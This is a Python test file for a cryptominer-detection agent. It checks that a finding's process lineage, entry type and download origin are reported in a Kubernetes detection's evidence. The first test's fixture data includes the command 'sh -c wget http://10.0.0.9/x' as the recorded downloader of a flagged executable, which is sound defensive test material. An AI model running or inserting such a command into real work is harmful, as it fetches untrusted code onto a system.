"""A finding's ancestry reaches the MinerDetection's evidence as the API names it."""

from __future__ import annotations

from minerguard.api.investigation import Entry, ExecutableOrigin
from node_agent.output.report import to_detection
from node_agent.records import Ancestry, Finding, ProcessLink

CID = "a1" * 32


def test_lineage_entry_and_origin_are_reported_in_the_evidence() -> None:
    ancestry = Ancestry(
        lineage=(ProcessLink(530, "/bin/busybox", "sh -c wget http://10.0.0.9/x", 1.7e9),),
        entry=Entry.EXEC,
        executable_origin=ExecutableOrigin.DOWNLOADED,
        downloaded_by="sh -c wget http://10.0.0.9/x",
    )
    finding = Finding(
        "Exec", 1.0, (), "p", "Enforce", 1.7e9, "/c", container_id=CID, pid=531, ancestry=ancestry
    )
    evidence = to_detection(finding, None, "node-1").to_k8s()["spec"]["evidence"]
    assert evidence["lineage"] == [
        {
            "pid": 530,
            "executable": "/bin/busybox",
            "commandLine": "sh -c wget http://10.0.0.9/x",
            "startedAt": "2023-11-14T22:13:20Z",
        }
    ]
    assert "entryDetail" not in evidence or evidence["entryDetail"] is None
    assert (evidence["entry"], evidence["executableOrigin"], evidence["downloadedBy"]) == (
        "Exec",
        "Downloaded",
        "sh -c wget http://10.0.0.9/x",
    )


def test_a_finding_without_ancestry_reports_none() -> None:
    finding = Finding("Network", 1.0, (), "p", "Enforce", 1.7e9, "/c")
    evidence = to_detection(finding, None, None).to_k8s()["spec"]["evidence"]
    assert "entry" not in evidence or evidence["entry"] is None
    assert evidence.get("lineage", []) == []


def test_why_the_entry_is_unknown_is_reported() -> None:
    ancestry = Ancestry((), Entry.UNKNOWN, ExecutableOrigin.UNKNOWN, why="pid 531 was orphaned")
    finding = Finding("Exec", 1.0, (), "p", "Enforce", 1.7e9, "/c", pid=531, ancestry=ancestry)
    evidence = to_detection(finding, None, None).to_k8s()["spec"]["evidence"]
    assert (evidence["entry"], evidence["entryDetail"]) == ("Unknown", "pid 531 was orphaned")


def test_an_exited_ancestor_is_marked_exited_in_the_evidence() -> None:
    shell = ProcessLink(530, None, None, 1.7e9, exited=True)
    ancestry = Ancestry((shell,), Entry.EXEC, ExecutableOrigin.UNKNOWN)
    finding = Finding("Exec", 1.0, (), "p", "Enforce", 1.7e9, "/c", pid=531, ancestry=ancestry)
    evidence = to_detection(finding, None, None).to_k8s()["spec"]["evidence"]
    assert evidence["lineage"] == [
        {"pid": 530, "startedAt": "2023-11-14T22:13:20Z", "exited": True}
    ]
